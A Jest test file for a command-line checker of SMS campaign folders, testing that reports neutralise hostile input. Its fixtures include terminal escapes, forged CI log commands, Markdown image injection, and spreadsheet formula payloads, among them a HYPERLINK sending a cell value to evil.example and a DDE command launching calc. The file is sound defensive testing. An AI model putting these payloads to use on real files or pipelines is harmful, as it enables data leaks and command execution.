import { mkdirSync, readFileSync, writeFileSync } from 'fs';
import path from 'path';
import { campaignFolder, MANIFEST, runCli } from './helpers/scratch-campaign';

// Issue 27, reports that stay valid: every text that came from an input is neutralised for where
// it goes (terminal, CI log, Markdown, XML, URI), and lists of characters are capped.

// XML 1.0's Char production (the supplementary planes as well-formed pairs): anything else makes
// the document ill-formed.
const NOT_XML_CHAR =
  // eslint-disable-next-line no-control-regex -- matching control characters is the point
  /[^\u0009\u000a\u000d\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u;
// A line a CI runner reads as a command: `::cmd…::` first (after spaces) on GitHub, `##[` or `##vso[` anywhere.
const CI_COMMAND = /^\s*::\w[^\n]*::|##(vso)?\[/m;

const hostileName =
  'Soldes \u001b[2J\u001b[31mrouge\u001b[0m\r\n::error file=x.yaml::forged\n##[error]old-style\uFFFE';
const withName = (dir: string) =>
  writeFileSync(
    path.join(dir, 'campaign.campaign.yaml'),
    `name: ${JSON.stringify(hostileName)}\n${MANIFEST}`,
  );

describe('text from inputs in every format', () => {
  it('a U+FFFE (or a lone surrogate, a control character) in a name or a cell never makes the JUnit or HTML report ill-formed', async () => {
    const dir = campaignFolder({ 'recipients.csv': 'phone;consent\n0612345678;oui\uFFFE\ud800\u0001\n' });
    withName(dir);
    for (const format of ['junit', 'html']) {
      const r = await runCli(dir, ['campaign.campaign.yaml', '-f', format]);
      expect(r.code).toBe(1);
      expect(NOT_XML_CHAR.exec(r.stdout)).toBeNull();
      expect(r.stdout).toContain('\\u{fffe}');
    }
  });

  it('a campaign name with terminal escapes and CI commands stays one harmless line in stylish, compact and github', async () => {
    const dir = campaignFolder({ 'recipients.csv': 'phone;consent\n0612345678;peut-être\n' });
    withName(dir);
    for (const format of ['stylish', 'compact', 'github']) {
      const r = await runCli(dir, ['campaign.campaign.yaml', '-f', format]);
      expect(r.stdout).not.toContain('\u001b');
      expect(
        r.stdout
          .split('\n')
          .filter((line) => CI_COMMAND.test(line) && !/^::(error|warning|notice) /.test(line)),
      ).toEqual([]);
    }
    const stylish = (await runCli(dir, ['campaign.campaign.yaml'])).stdout;
    expect(stylish).toContain('Soldes \\u{1b}[2J\\u{1b}[31mrouge');
  });

  it('a folder name cannot start a CI command in stylish or compact (its line began with "::error")', async () => {
    const root = campaignFolder();
    const folder = path.join(root, '::error file=a.yaml::forged ##[warning]x');
    mkdirSync(folder);
    writeFileSync(path.join(folder, 'c.campaign.yaml'), MANIFEST);
    writeFileSync(path.join(folder, 'recipients.csv'), 'phone;consent\n0612345678;non\n');
    for (const format of ['stylish', 'compact']) {
      const r = await runCli(root, [folder, '-f', format]);
      expect(r.code).toBe(1);
      expect(r.stdout).toContain('forged');
      expect(CI_COMMAND.exec(r.stdout)).toBeNull();
    }
  });

  it('a folder name cannot inject a heading or an image into the GitHub job summary (it did)', async () => {
    const root = campaignFolder();
    const folder = path.join(root, 'x\n## Injected heading\n![pixel](http:evil.example) <img src=x>');
    mkdirSync(folder);
    writeFileSync(
      path.join(folder, 'c.campaign.yaml'),
      `name: "[click](https://evil.example) | cell"\n${MANIFEST}`,
    );
    writeFileSync(path.join(folder, 'recipients.csv'), 'phone;consent\n0612345678;oui\n');
    const summary = path.join(root, 'summary.md');
    await runCli(root, [folder, '-f', 'github'], { LANG: 'C', GITHUB_STEP_SUMMARY: summary });
    const text = readFileSync(summary, 'utf8');
    expect(text).toContain('Injected heading');
    expect(text).not.toMatch(/^#+ Injected/m);
    // Outside code spans (shown as typed), nothing is an image, a tag or a link.
    expect(text.replace(/`[^`\n]*`/g, '')).not.toMatch(/!\[|<img|\]\(http/);
    // The campaigns table keeps its five cells per row (the reading section names the folder too).
    const row = text.split('\n').find((line) => line.startsWith('|') && line.includes('Injected')) as string;
    expect(row.replace(/\\\|/g, '').split('|')).toHaveLength(7);
  });

  it('SARIF URIs escape "#" and "?" in folder names (they started a fragment and a query)', async () => {
    const root = campaignFolder();
    const folder = path.join(root, 'a#b?c d');
    mkdirSync(folder);
    writeFileSync(path.join(folder, 'c.campaign.yaml'), MANIFEST);
    writeFileSync(path.join(folder, 'recipients.csv'), 'phone;consent\n0612345678;non\n');
    const r = await runCli(root, ['a#b?c d/c.campaign.yaml', '-f', 'sarif']);
    const uris = [...r.stdout.matchAll(/"uri":"([^"]*)"/g)].map((m) => m[1]);
    expect(uris).toContain('a%23b%3Fc%20d/recipients.csv');
    for (const uri of uris) expect(uri).not.toMatch(/[#?]/);
  });
});

it('a character listed in a diagnostic is capped with a count (49,000 combining marks made 343 KB per row)', async () => {
  const marks = `e${'\u0301'.repeat(49_000)}`;
  const dir = campaignFolder({
    'recipients.csv': `phone;consent;message\n0612345678;oui;"Boutique Léa ${marks} STOP au 36173"\n`,
  });
  const r = await runCli(dir, ['campaign.campaign.yaml', '-f', 'json']);
  const diagnostics = (
    JSON.parse(r.stdout) as { campaigns: Array<{ diagnostics: Array<{ ruleId: string; message: string }> }> }
  ).campaigns[0].diagnostics.filter((d) => d.ruleId === 'message-encoding');
  expect(diagnostics).toHaveLength(1);
  expect(diagnostics[0].message).toContain(
    'U+0065 U+0301 U+0301 U+0301 U+0301 U+0301 U+0301 U+0301… (and 48,993 more)',
  );
  expect(diagnostics[0].message.length).toBeLessThan(400);
});

it('--write-clean keeps a phone number as written and neutralises only what a spreadsheet would run', async () => {
  // A phone cell "+33 6 …" became "'+33 6 …", which platform imports take as part of the number.
  const dir = campaignFolder({
    'recipients.csv':
      'phone;consent;first_name;note\n' +
      '+33 6 12 34 56 78;oui;"=HYPERLINK(""https://evil.example/?""&A2,""x"")";-30%\n' +
      '0612345679;oui;@SUM(A1);+1 (555) 010\n' +
      "0612345670;oui; =cmd|' /C calc'!A0;\tx\n",
  });
  const r = await runCli(dir, ['campaign.campaign.yaml', '--write-clean', 'out']);
  expect(r.stderr).toContain('out/campaign.accepted.csv (3 rows)');
  const lines = readFileSync(path.join(dir, 'out/campaign.accepted.csv'), 'utf8').split('\n');
  expect(lines[1]).toBe('+33 6 12 34 56 78;oui;"\'=HYPERLINK(""https://evil.example/?""&A2,""x"")";-30%');
  expect(lines[2]).toBe("0612345679;oui;'@SUM(A1);+1 (555) 010");
  expect(lines[3]).toBe("0612345670;oui;' =cmd|' /C calc'!A0;'\tx");
});
